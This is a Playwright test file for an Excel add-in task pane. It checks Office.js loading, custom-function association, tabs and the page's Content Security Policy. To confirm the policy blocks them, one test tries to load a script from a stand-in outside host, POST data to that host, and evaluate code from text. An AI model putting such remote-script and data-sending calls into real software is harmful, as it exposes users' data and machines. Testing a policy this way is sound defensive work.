import { readFile } from "node:fs/promises";
import type { Browser } from "playwright-core";
import { serve } from "../../scripts/server.mjs";
import { describeInBrowser, launchBrowser } from "./launchBrowser";
import { realOfficeJs } from "./realOfficeJs";

const OFFICE = "appsforoffice.microsoft.com";

/** The page as it ships, its policy included, over Microsoft's own Office.js, which this machine serves. */
describeInBrowser("the pane over the real Office.js", () => {
  let browser: Browser;
  let server: Awaited<ReturnType<typeof serve>>;

  beforeAll(async () => {
    server = await serve("dist", 0);
    browser = await launchBrowser();
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  /** The page for a host as Office names it in the address: Excel$Win32$16.01$en-US. */
  async function open(host = "") {
    const page = await browser.newPage({ viewport: { width: 350, height: 800 } });
    page.setDefaultTimeout(15_000);
    const trouble: string[] = [];
    const office: string[] = [];
    page.on("pageerror", (error) => trouble.push(error.message));
    // What the policy refuses is an error of the console too.
    page.on("console", (message) => message.type() === "error" && trouble.push(message.text()));
    await page.route(/^https:/, async (route) => {
      const { hostname, pathname } = new URL(route.request().url());
      if (hostname === OFFICE) {
        office.push(pathname.split("/").at(-1) ?? "");
        await route.fulfill({ contentType: "text/javascript", body: await realOfficeJs(pathname) });
        return;
      }
      // Office.js frames Microsoft's telemetry page where no host forbids it; the pane asks for nothing outside.
      if (!route.request().frame().parentFrame()) trouble.push(`asked for ${hostname}`);
      await route.fulfill({ contentType: "text/html", body: "" });
    });
    await page.goto(`${server.address}/taskpane.html${host === "" ? "" : `?_host_Info=${host}$id$$$0`}`);
    return { page, trouble, office };
  }

  async function functionIds(): Promise<string[]> {
    const { functions } = JSON.parse(await readFile("dist/functions.json", "utf8")) as {
      functions: { id: string }[];
    };
    return functions.map(({ id }) => id).sort();
  }

  /** The functions that Office.js knows; `_association` is how its own Excel part reads them. */
  const associatedIds = () => {
    const { _association } = CustomFunctions as unknown as { _association: { mappings: object } };
    return Object.keys(_association.mappings).sort();
  };

  it("says that Excel is absent, and associates every function all the same", async () => {
    const { page, trouble } = await open();
    await page.getByRole("heading", { name: "Excel is not here" }).waitFor();
    expect(await page.evaluate(associatedIds)).toEqual(await functionIds());
    expect(trouble).toEqual([]);
    await page.close();
  });

  it("opens every room that needs no workbook, and no other", async () => {
    const { page, trouble } = await open();
    await page.getByRole("tab").first().waitFor();
    expect(await page.getByRole("tab").allInnerTexts()).toEqual(["Start", "Functions"]);
    for (const tab of await page.getByRole("tab").all()) {
      const name = await tab.innerText();
      await tab.click();
      const room = page.getByRole("tabpanel", { name, exact: true });
      await room.getByText("Loading…").waitFor({ state: "hidden" });
      await room.getByRole("heading").first().waitFor();
      expect(await page.getByRole("alert").count()).toBe(0);
    }
    await page.getByRole("searchbox", { name: "Search functions" }).fill("nettheta");
    await page.getByRole("button", { name: /^NETTHETA/ }).click();
    await page.getByText("ALVH.NETTHETA(book").first().waitFor();
    expect(await page.getByRole("button", { name: /^Insert/ }).count()).toBe(0);
    expect(trouble).toEqual([]);
    await page.close();
  });

  // Without a host that answers, Office.onReady waits; the functions must not.
  it.each([
    ["Windows", "Excel$Win32$16.01$en-US", "excel-win32-16.01.js"],
    ["Mac", "Excel$Mac$16.01$en-US", "excel-mac-16.00.js"],
  ])("under the page's policy loads what Excel on %s needs, functions first", async (_name, host, script) => {
    const { page, trouble, office } = await open(host);
    await page.waitForFunction(() => typeof Excel === "object");
    expect(office).toContain(script);
    expect(await page.evaluate(associatedIds)).toEqual(await functionIds());
    expect(await page.evaluate(() => typeof Excel.run)).toBe("function");
    await page.getByText("ALVH for Excel is loading…").waitFor();
    expect(trouble).toEqual([]);
    await page.close();
  });

  it("under a policy that refuses code from text, other scripts, and figures sent elsewhere", async () => {
    const { page } = await open();
    await page.getByRole("tab").first().waitFor();
    const refused = await page.evaluate(async () => {
      const directives: string[] = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        directives.push(effectiveDirective);
      });
      const script = document.createElement("script");
      script.src = "https://elsewhere.example/a.js";
      document.head.append(script);
      const sent = await fetch("https://elsewhere.example/", { method: "POST", body: "1" }).then(
        () => "sent",
        () => "refused",
      );
      // In a task of its own: what the debugger itself evaluates, the policy lets pass.
      const evaluated = await new Promise<string>((done) => {
        setTimeout(() => {
          try {
            done(String(new Function("return 'evaluated'")()));
          } catch {
            done("refused");
          }
        }, 200);
      });
      return { directives: directives.sort(), sent, evaluated };
    });
    expect(refused).toEqual({
      directives: ["connect-src", "script-src-elem"],
      sent: "refused",
      evaluated: "refused",
    });
    await page.close();
  });
});
